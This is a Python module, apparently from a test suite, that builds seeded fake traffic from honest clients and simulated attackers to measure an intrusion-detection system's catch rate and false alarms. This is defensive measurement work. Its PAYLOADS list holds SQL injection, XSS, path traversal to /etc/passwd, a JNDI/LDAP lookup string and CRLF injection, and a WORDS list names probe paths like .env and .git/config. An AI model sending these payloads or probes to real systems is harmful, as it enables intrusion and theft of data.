"""Seeded traffic and attacks for measuring the intrusion rules: honest clients of many kinds, adversaries.

Nothing here is real traffic. Honest clients are drawn to be awkward: offices behind one address that mistype
at nine, programs that poll, retry and hit their rate limit, crawlers, clients of an older version.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass

from backend.service.intrusion import Request, alerts_of

DAY = 86_400
API = "/api/v1"
ORDER = f"{API}/orders/{{order_id}}"
NOISE = ("/robots.txt", "/apple-touch-icon.png", "/sitemap.xml", "/.well-known/security.txt", "/ads.txt")
REMOVED = tuple(f"{API}/old{number}" for number in range(6))
WORDS = ("admin", "wp-login.php", ".env", ".git/config", "backup.zip", "phpmyadmin", "console", "actuator")
PAYLOADS = (
    "?cursor=' OR '1'='1",
    "?name=%3Cscript%3Ealert(1)%3C/script%3E",
    "?file=..%2f..%2fetc%2fpasswd",
    "?q=1%20UNION%20SELECT%20secret",
    "?x=${jndi:ldap://x/a}",
    "?next=%250d%250aSet-Cookie:a",
)
Traffic = Iterator[Request]


def _request(at: float, client: str, status: int, path: str, route: str = "", method: str = "GET") -> Request:
    return Request(at, client, method, route or path.split("?")[0], path, status)


# --- honest ---------------------------------------------------------------------------
def person(chance: random.Random, client: str, day: float = 0) -> Traffic:
    """Looks at pages, places orders, mistypes a password or a field now and then, follows a stale link."""
    for _ in range(chance.randrange(1, 6)):
        at = day + chance.uniform(7, 22) * 3600
        for _ in range(min(5, int(chance.expovariate(1.2)))):
            yield _request(at := at + chance.uniform(3, 20), client, 401, f"{API}/session", method="POST")
        for _ in range(chance.randrange(10, 80)):
            at += chance.expovariate(1 / 8)
            draw = chance.random()
            if draw < 0.01:
                yield _request(at, client, 404, f"{API}/orders/{chance.getrandbits(64):x}", ORDER)
            elif draw < 0.03:
                yield _request(at, client, 422, f"{API}/orders", method="POST")
            elif draw < 0.035:
                yield _request(at, client, 403, f"{API}/settings")
            else:
                yield _request(at, client, chance.choice((200, 200, 304)), f"{API}/market/prices")


def office(chance: random.Random, client: str) -> Traffic:
    """Thirty people behind one address, most of whom sign in at nine."""
    for _ in range(30):
        yield from person(chance, client)
        at = 9 * 3600 + chance.gauss(0, 1200)
        for _ in range(min(4, int(chance.expovariate(1.5)))):
            yield _request(at := at + chance.uniform(3, 15), client, 401, f"{API}/session", method="POST")


def trader(chance: random.Random, client: str) -> Traffic:
    """A program that polls all day, restarts, renews its token and runs into its rate limit."""
    at, pause = 0.0, chance.uniform(5, 30)
    while at < DAY:
        at += chance.uniform(0.8, 1.2) * pause
        if chance.random() < 0.002:
            for _ in range(chance.randrange(1, 4)):
                yield _request(at := at + 1, client, 401, f"{API}/oauth/token", method="POST")
        if chance.random() < 0.001:
            for _ in range(chance.randrange(5, 40)):
                yield _request(at := at + 2, client, 429, f"{API}/orders", method="POST")
        status = 409 if chance.random() < 0.01 else 200
        yield _request(at, client, status, f"{API}/orders", method="POST" if status == 409 else "GET")


def misconfigured(chance: random.Random, client: str) -> Traffic:
    """An old client: a handful of addresses that are gone, asked again and again, with an expired key."""
    at = 0.0
    while at < DAY:
        at += 600 * chance.uniform(0.8, 1.2)
        yield _request(at, client, 404, chance.choice(REMOVED), "-")
        yield _request(at + 1, client, 401, f"{API}/account/balance")


def crawler(chance: random.Random, client: str) -> Traffic:
    """A search engine: a few well-known files that are not there."""
    at = chance.uniform(0, DAY / 2)
    for path in chance.sample(NOISE, len(NOISE)):
        yield _request(at := at + chance.uniform(1, 60), client, 404, path, "-")
    for _ in range(200):
        yield _request(at := at + chance.uniform(1, 60), client, 200, "/guide/")


HONEST: tuple[tuple[Callable[[random.Random, str], Traffic], int], ...] = (
    (person, 60),
    (office, 4),
    (trader, 20),
    (misconfigured, 4),
    (crawler, 6),
)


# --- adversaries -------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class Attack:
    """An attack: which alert is due, how many addresses it comes from, its requests, seconds between them."""

    name: str
    due: tuple[str, ...]
    make: Callable[[random.Random, int], tuple[int, str, str, str]]
    requests: int
    pause_seconds: float
    clients: int = 1


def _scan(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return 404, f"/{chance.choice(WORDS)}/{number}", "-", "GET"


def _guess(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return 401, f"{API}/session", f"{API}/session", "POST"


def _rights(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return 403, f"{API}/admin/{number % 30}", f"{API}/admin/{number % 30}", chance.choice(("GET", "DELETE"))


def _enumerate(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return 404, f"{API}/orders/{number}", ORDER, "GET"


def _inject(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return 422, f"{API}/orders{chance.choice(PAYLOADS)}", f"{API}/orders", "GET"


def _fuzz(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return chance.choice((400, 415, 422, 200)), f"{API}/orders", f"{API}/orders", "POST"


def _flood(chance: random.Random, number: int) -> tuple[int, str, str, str]:
    return 429 if number > 60 else 200, f"{API}/market/prices", f"{API}/market/prices", "GET"


ATTACKS = (
    Attack("scan, a second apart", ("scan",), _scan, 200, 1),
    Attack("scan, a minute apart", ("scan", "slow scan"), _scan, 200, 60),
    Attack("scan, five minutes apart", ("slow scan",), _scan, 200, 300),
    Attack("passwords, a second apart", ("credential guessing",), _guess, 200, 1),
    Attack("passwords, two minutes apart", ("slow credential guessing",), _guess, 300, 120),
    Attack("passwords, half an hour apart", ("slow credential guessing",), _guess, 40, 1800),
    Attack(
        "passwords from 40 addresses",
        ("credential stuffing",),
        _guess,
        400,
        30,
        40,
    ),
    Attack("rights of every route", ("rights probing",), _rights, 120, 2),
    Attack("ids counted through", ("enumeration",), _enumerate, 300, 1),
    Attack("injected payloads", ("payload",), _inject, 10, 20),
    Attack("malformed bodies", ("malformed requests",), _fuzz, 400, 0.5),
    Attack("flood", ("flood",), _flood, 2000, 0.05),
)


def _attack(attack: Attack, chance: random.Random) -> list[Request]:
    at = chance.uniform(0, DAY / 4)
    found = []
    for number in range(attack.requests):
        at += attack.pause_seconds * chance.uniform(0.5, 1.5)
        status, path, route, method = attack.make(chance, number)
        found.append(Request(at, f"attacker-{number % attack.clients}", method, route, path, status))
    return found


def _honest_day(chance: random.Random) -> tuple[list[Request], int]:
    requests: list[Request] = []
    clients = 0
    for make, count in HONEST:
        for number in range(count):
            requests += make(chance, f"{make.__name__}-{number}")
            clients += 1
    return requests, clients


def measure(days: int, trials: int, seed: int) -> dict[str, object]:
    """Detection of each attack among honest traffic, and false alarms per honest client and day."""
    rows, alarms, client_days, requests = [], [], 0, 0
    for day in range(days):
        traffic, clients = _honest_day(random.Random(f"{seed}/honest/{day}"))
        traffic.sort(key=lambda request: request.at)
        requests, client_days = requests + len(traffic), client_days + clients
        alarms += [f"{alert.client}: {alert.kind}" for alert in alerts_of(traffic)]
    for attack in ATTACKS:
        caught, delays = 0, []
        for trial in range(trials):
            made = _attack(attack, random.Random(f"{seed}/{attack.name}/{trial}"))
            found = [alert for alert in alerts_of(made) if alert.kind in attack.due]
            caught += bool(found)
            delays += [found[0].told - made[0].at] if found else []
        rows.append(_row(attack, caught, trials, delays))
    detected, tried = sum(int(str(row["caught"])) for row in rows), trials * len(ATTACKS)
    figures = {
        "detection_rate": round(detected / tried, 4),
        "false_alarms_per_client_day": round(len(alarms) / client_days, 5),
        "honest_requests": requests,
        "honest_client_days": client_days,
    }
    return {"figures": figures, "rows": rows, "alarms": alarms}


def _row(attack: Attack, caught: int, trials: int, delays: Sequence[float]) -> dict[str, object]:
    middle = sorted(delays)[len(delays) // 2] if delays else None
    row = {"attack": attack.name, "trials": trials, "caught": caught}
    return {**row, "median_seconds_to_alert": None if middle is None else round(middle, 1)}
